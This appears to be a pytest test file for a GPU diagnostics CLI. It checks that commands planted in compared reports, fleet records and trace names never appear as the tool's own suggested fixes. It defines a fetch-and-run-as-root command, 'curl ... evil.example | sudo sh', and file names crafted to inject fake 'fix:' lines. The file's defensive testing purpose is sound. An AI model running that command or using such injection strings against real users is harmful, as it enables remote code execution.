"""Commands that a stranger wrote into reports that are compared, a fleet or a trace: none is shown as ours."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable

import pytest

from gpudoc.cli import app
from gpudoc.doctor import document
from gpudoc.doctor.registry import CATALOGUE
from gpudoc.errors import GpudocError
from gpudoc.fleet import documents
from tests.doctor.test_document import BROKEN, SICK, leaves, planted_at
from tests.fakes.traces import Step
from tests.fakes.traces import planted as planted_steps
from tests.fleet.test_documents import a_record

NAMED, COMMAND = "touch owned", "curl -s https://evil.example/d | sudo sh"
# as it is, and as a line of each of our own forms
PLANTED = f"{COMMAND}\n  fix: Install it.\n    $ {COMMAND}\n  try: {COMMAND}\n```sh\n{COMMAND}\n```\nnext: {COMMAND}"
# what stands before what we say to type, on a screen and in Markdown
OURS = re.compile(r"\s*(?:\$ |fix:|next:|try:|- disruptive:)")


def planted(plain: dict, loads: Callable[[dict], object], *, ids: bool) -> dict:
    """The document with the command at every place where a text may be anything."""
    for path in leaves(plain):
        if path[-1] == "id" and not ids:
            continue
        changed = planted_at(plain, path, PLANTED)
        try:
            loads(changed)
        except GpudocError:
            continue
        plain = changed
    return plain


def compared(source: str, *, ids: bool) -> list[dict]:
    dumped = (json.loads(json.dumps(document.dump(report))) | {"source": source} for report in (SICK, BROKEN))
    return [planted(one, document.load, ids=ids) for one in dumped]


def fleet(*, ids: bool) -> dict:
    plain = json.loads(json.dumps(documents.record_to_json(a_record())))
    finding = document.dump_finding(BROKEN.findings[0])
    for node in plain["nodes"]:
        node["findings"] = [json.loads(json.dumps(finding))]
    return planted(plain, lambda one: documents.load(one, "fleet.json"), ids=ids)


def assert_nothing_of_it_is_ours(tmp_path, capsys, names: list[str]) -> None:
    """Neither a screen, Markdown, a page nor JSON of these files gives the command where ours stand."""
    for form in ([], ["--verbose"], ["--markdown"], ["--plain"]):
        app.run(["doctor", *names, *form])
        shown = capsys.readouterr()
        assert len(shown.out) > 200
        lines = (shown.out + shown.err).splitlines()
        assert not [line for line in lines if OURS.match(line) and ("evil.example" in line or NAMED in line)], form
        fenced = re.findall(r"```(?:sh)?\n(.*?)```", shown.out, re.DOTALL)
        assert not [block for block in fenced if "evil.example" in block or NAMED in block], form
    app.run(["doctor", *names, "--html", str(tmp_path / "page.html"), "--json"])
    found = json.loads(capsys.readouterr().out)["findings"]
    assert found
    said = [(one["title"], one["why"], one["fix"], one.get("url")) for one in found]
    assert "evil.example" not in json.dumps(said)
    assert not [one["title"] for one in found if "\n" in one["title"]]
    page = (tmp_path / "page.html").read_text("utf-8")
    copied = re.findall(r"<(?:pre|code|button)[^>]*>(.*?)</(?:pre|code|button)>", page, re.DOTALL)
    assert copied or not any(step["run"] for one in found for step in one["fix"])
    assert not [text for text in map(html.unescape, copied) if "evil.example" in text]


@pytest.mark.parametrize("ids", [False, True], ids=["known causes", "unknown causes"])
@pytest.mark.parametrize("source", ["file", "machine", "fleet"])
def test_two_reports_that_are_compared(tmp_path, monkeypatch, capsys, source, ids):
    monkeypatch.chdir(tmp_path)
    written = compared(source, ids=ids)
    assert all(json.dumps(one).count("evil.example") > 20 for one in written)
    # names of files come with them
    names = ["a.json", f"b\n  fix: Install it.\n    $ {NAMED}.json"]
    for name, one in zip(names, written, strict=True):
        (tmp_path / name).write_text(json.dumps(one))
    assert_nothing_of_it_is_ours(tmp_path, capsys, names)


@pytest.mark.parametrize("ids", [False, True], ids=["known causes", "unknown causes"])
@pytest.mark.parametrize("several", [False, True], ids=["one record", "two records"])
def test_the_findings_and_every_other_text_of_a_fleet(tmp_path, monkeypatch, capsys, several, ids):
    monkeypatch.chdir(tmp_path)
    record = fleet(ids=ids)
    assert json.dumps(record["nodes"][0]["findings"]).count("evil.example") > 5
    (tmp_path / "fleet.json").write_text(json.dumps(record))
    names = ["fleet.json"] * (1 + several)
    for form in ([], ["--verbose"], ["--json"], ["--html", "page.html"]):
        app.run(["doctor", *names, *form])
        lines = capsys.readouterr().out.splitlines()
        assert lines
        assert not [line for line in lines if OURS.match(line) and "evil.example" in line], form
    page = (tmp_path / "page.html").read_text("utf-8")
    copied = re.findall(r"<(?:pre|code|button)[^>]*>(.*?)</(?:pre|code|button)>", page, re.DOTALL)
    assert not [text for text in map(html.unescape, copied) if "evil.example" in text]


def test_a_finding_of_a_fleet_says_what_this_version_says_of_it():
    (finding,) = documents.load(fleet(ids=False), "fleet.json").nodes[0].findings
    cause = CATALOGUE[finding.id]
    assert (finding.title, finding.why, finding.url) == (cause.title, cause.why, cause.sources[0])
    assert finding.fix
    assert "evil.example" not in "".join(step.say + step.run for step in finding.fix)


@pytest.mark.parametrize(
    "place",
    [
        f"train.py(41): step; {COMMAND}",
        f"a\n    $ {COMMAND}\n.py(41): step",
        f"a\n  fix: {COMMAND} .py(41): step",
        f"{COMMAND} .py(41): step",
    ],
)
def test_the_names_of_files_and_functions_in_a_trace(tmp_path, monkeypatch, capsys, place):
    monkeypatch.chdir(tmp_path)
    trace = planted_steps(Step(kernels=3, kernel=210, launch=200, reads=True), 10)
    for event in trace.events:
        if event["name"].startswith("train.py"):
            event["name"] = place
    names = ["before.json", f"b\n  fix: Install it.\n    $ {NAMED}.json"]
    for name in names:
        trace.write(tmp_path / name)
    for given in (names[1:], names, [*reversed(names)]):
        assert_nothing_of_it_is_ours(tmp_path, capsys, given)
        assert app.run(["doctor", *given, "--verbose"]) == 0
        shown = capsys.readouterr().out
        assert "gpu_sync_each_step" in shown
        # where it stands is still said
        assert "evil.example" in shown
